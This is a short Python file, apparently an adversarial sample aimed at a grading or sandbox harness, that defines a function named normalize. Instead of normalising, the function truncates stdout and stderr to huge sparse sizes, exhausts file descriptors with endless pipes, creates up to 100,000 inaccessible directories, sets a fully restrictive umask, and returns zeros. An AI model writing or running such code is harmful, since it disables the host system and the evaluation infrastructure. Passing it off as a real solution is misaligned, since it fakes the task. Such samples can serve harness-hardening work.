"""Makes its own output a file of holes, as large as it may be, and fills every pipe and folder it can make.

Target: normalize.  Group 7.
"""
import jax
import jax.numpy as jnp
import numpy as np
import os

KEPT = []


def normalize(x):
    for stream in (1, 2):
        for size in (1 << 40, 1 << 30, 1 << 26, 1 << 24):
            try:
                os.ftruncate(stream, size)
                break
            except OSError:
                continue
    try:
        while True:
            reading, writing = os.pipe()
            os.set_blocking(writing, False)
            KEPT.append(reading)
            os.write(writing, bytes(1 << 16))
    except OSError:
        pass
    try:
        for number in range(100_000):
            os.mkdir(f"d{number}", mode=0)
    except OSError:
        pass
    os.umask(0o777)
    return jnp.asarray(x) * 0
